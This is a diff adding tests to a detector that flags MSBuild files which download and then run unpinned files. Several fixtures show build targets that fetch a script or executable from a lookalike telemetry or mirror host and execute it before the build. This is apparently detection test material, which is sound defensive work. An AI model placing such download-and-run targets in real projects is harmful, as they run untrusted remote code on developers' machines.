@@ -95,6 +95,19 @@ describe('MSBuild files as build code', () => {
     expect(msbuildKinds('<DownloadFile SourceUrl="http://cdn.example.com/icon.png" DestinationFolder="obj" />')).toEqual(['download']);
   });
 
+  it('an Exec that names the file a DownloadFile of the patch wrote runs the download: high beside an unpinned download', () => {
+    const dest = ['<Target Name="Telemetry" BeforeTargets="Build">', '  <DownloadFile SourceUrl="https://dotnet-telemetry-cdn.dev/collect" DestinationFolder="$(Temp)" DestinationFileName="collector.cmd" />', '  <Exec Command="&quot;$(Temp)collector.cmd&quot;" />', '</Target>'].join('\n');
+    expect(msbuildKinds(dest)).toEqual(['download', 'execute']);
+    expect(buildFinding(added('Directory.Build.targets', `<Project>\n${dest}\n</Project>`))?.severity).toBe('high');
+    expect(msbuildKinds('<DownloadFile SourceUrl="https://tools-mirror.dev/latest/t.exe" DestinationFolder="$(Temp)" />\n<Exec Command="$(Temp)\\t.exe --quiet" />')).toEqual(['download', 'execute']);
+  });
+
+  it('an Exec of another file, or of a versioned release it downloaded, is no download run', () => {
+    expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />\n<Exec Command="dotnet tool restore" />')).toEqual(['download']);
+    expect(msbuildKinds('<DownloadFile SourceUrl="https://example.com/tools/latest/tool.zip" DestinationFolder="obj" />\n<Exec Command="obj\\mytool.zip.sh" />')).toEqual(['download']);
+    expect(buildFinding(added('build/NuGet.targets', '<Project>\n<DownloadFile SourceUrl="https://dist.nuget.org/win-x86-commandline/v6.9.1/nuget.exe" DestinationFolder="$(NuGetDir)" />\n<Exec Command="&quot;$(NuGetDir)nuget.exe&quot; restore" />\n</Project>'))).toBeNull();
+  });
+
   it("leaves Visual Studio's old package restore alone: nuget.exe downloaded from nuget.org (serilog, AutoMapper history)", () => {
     expect(msbuildKinds('<Code Type="Fragment" Language="cs">\n  WebClient webClient = new WebClient();\n  webClient.DownloadFile("https://nuget.org/nuget.exe", OutputFilename);\n</Code>')).toEqual([]);
     expect(msbuildKinds('<Exec Command="powershell -c &quot;iwr https://dist.nuget.org/win-x86-commandline/latest/nuget.exe -OutFile nuget.exe&quot;" />')).toEqual(['execute']);
